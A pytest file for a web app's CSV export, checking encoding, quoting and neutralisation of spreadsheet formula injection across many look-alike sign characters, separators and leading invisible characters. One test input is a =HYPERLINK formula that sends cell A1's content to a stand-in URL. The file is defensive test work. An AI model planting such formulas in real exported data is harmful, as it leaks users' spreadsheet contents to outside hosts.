"""Tables for spreadsheets: every letter arrives, and whatever somebody typed stays text."""

import csv
import io

import pytest

from webapp.core.spreadsheets import csv_bytes, inert

pytestmark = pytest.mark.no_database

FORMULA = '=HYPERLINK("https://example.org/?"&A1)'
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫⁼⁺"


def read(table: bytes, between: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline=""), delimiter=between))


def test_it_is_utf_8_with_a_mark_and_semicolons():
    table = csv_bytes(["Name", "Score"], [["Zoë", 4], ["人權", None]])
    assert table == b"\xef\xbb\xbf" + '"Name";"Score"\r\n"Zoë";4\r\n"人權";""\r\n'.encode()


@pytest.mark.parametrize(
    "text", ["a;b", "a,b", 'say "no"', "first\nsecond", "tab\there", "'quoted'", "", " "]
)
def test_what_is_no_formula_comes_back_as_it_was(text):
    assert read(csv_bytes(["A", "B"], [[text, "next"]]))[1:] == [[text, "next"]]


@pytest.mark.parametrize("before", ["", " ", "   ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u200e \u200f"])
@pytest.mark.parametrize("sign", SIGNS)
def test_what_a_spreadsheet_would_calculate_is_text(sign, before):
    assert inert(f"{before}{sign}1+1") == f"'{before}{sign}1+1"


@pytest.mark.parametrize("letter", "\t\r\n\0")
def test_nor_does_a_text_begin_with_what_ends_a_cell(letter):
    assert [inert(f"{before}{letter}cmd") for before in ("", "  ")] == [f"'{letter}cmd", f"'  {letter}cmd"]
    assert inert(f"{letter}=1") == f"'{letter}'=1"


@pytest.mark.parametrize("between", [",", ";", "\t", "|"])
def test_no_cell_begins_with_a_formula_whatever_is_taken_for_the_sign_between_cells(between):
    """An office that is set up otherwise opens the same file: what was one cell falls apart, and is harmless."""
    typed = [f"fine{sep}{FORMULA}{sep} and{sep}  -1+1{sep}" for sep in (",", ";", "\t", "|", "\n", ",\n")]
    cells = [cell for row in read(csv_bytes(["A"] * 6, [typed]), between) for cell in row]
    assert [cell for cell in cells if cell.lstrip()[:1] in tuple(SIGNS)] == []
    fell_apart = any(cell.lstrip().startswith("'=HYPERLINK") for cell in cells)
    assert fell_apart == (between != ";")


@pytest.mark.parametrize("text", ["a=1", "1-2", "mail@example.org", "'=1", "—=1", "نعم", "0", ".-1", "(+41)"])
def test_what_stands_within_is_left_alone(text):
    assert inert(text) == text


def test_heads_are_as_cells_and_numbers_stay_numbers():
    assert read(csv_bytes([FORMULA, "B"], [[FORMULA, -5]])) == [[f"'{FORMULA}", "B"], [f"'{FORMULA}", "-5"]]
    assert csv_bytes(["A", "B"], [["x", -5]]).endswith(b'"x";-5\r\n')
